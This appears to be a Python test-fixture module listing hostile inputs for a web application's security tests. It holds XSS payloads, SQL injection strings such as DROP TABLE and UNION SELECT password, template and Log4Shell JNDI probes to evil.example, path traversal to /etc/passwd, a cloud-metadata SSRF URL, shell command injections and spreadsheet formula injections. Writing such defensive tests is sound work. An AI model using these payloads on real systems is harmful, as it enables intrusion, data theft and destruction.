"""What enemies type (SECURITY §6 row 14), for every text field and every parameter."""

#: Kept and shown again as they were, all in one text: each is an attack in some place of a page,
#: a statement, a template, a path, a workbook or a log.
MARKUP = (
    "<script>alert(1)</script>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "<img src=x onerror=alert(4)>",
    "<svg/onload=alert(5)>",
    '" onmouseover="alert(6)',
    "' onfocus='alert(7)' autofocus='",
    "javascript:alert(8)",
    "<a href=javascript:alert(9)>x</a>",
    "<iframe srcdoc='<script>alert(10)</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(11)>",
    "<!--><script>alert(12)</script-->",
    "&lt;script&gt;alert(13)&lt;/script&gt;",
    "%3Cscript%3Ealert(14)%3C/script%3E",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
)
STATEMENTS = (
    "'; DROP TABLE unions_union; --",
    "' OR '1'='1",
    '" OR ""="',
    "1) UNION SELECT password FROM unions_user --",
    "$$; SELECT pg_sleep(9); $$",
    "\\'; SELECT 1; --",
    "%' AND 1=CAST((SELECT version()) AS int) AND '%'='",
    "100%_[]*?",
    "(((((a+)+)+)+)+)$",
    "^(?=.*$)[",
)
TEMPLATES = (
    "{{ 7193|add:7 }}",
    "{% load static %}{% include '/etc/passwd' %}",
    "{{ request.user.password }}",
    "${7193+7}",
    "#{7193+7}",
    "<%= 7193+7 %>",
    "%(password)s %s %d",
    "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
)
#: What the page would show if one of them were a template.
WORKED_OUT = "7200"
COMMANDS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/",
    "; cat /etc/passwd",
    "| id",
    "`id`",
    "$(id)",
    '=HYPERLINK("http://evil.example")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
)
WRITING = (
    "𠮷野家",
    "👨‍👩‍👧",
    "abc\u202e\u200fdef",
    "e\u0301\u0301\u0301",
    "ﷺ",
    "İıſß",
    "\ufeff\ufffd",
    "全角ＡＢＣ１２３",
)
#: Read alone or not at all, so each stands in a field of its own.
NUMBERS = (
    "99999999999999999999999999",
    "-1",
    "0",
    "1e309",
    "NaN",
    "Infinity",
    "0x10",
    "１２３",
    "1,000.005",
    "0000-00-00",
    "2026-02-30",
    "9999-12-31",
    "true",
    "null",
    "[]",
    "00000000-0000-0000-0000-000000000000",
)
TEXT = " ".join((*WRITING, *MARKUP, *STATEMENTS, *TEMPLATES, *COMMANDS))
COUNT = len((*WRITING, *MARKUP, *STATEMENTS, *TEMPLATES, *COMMANDS, *NUMBERS))
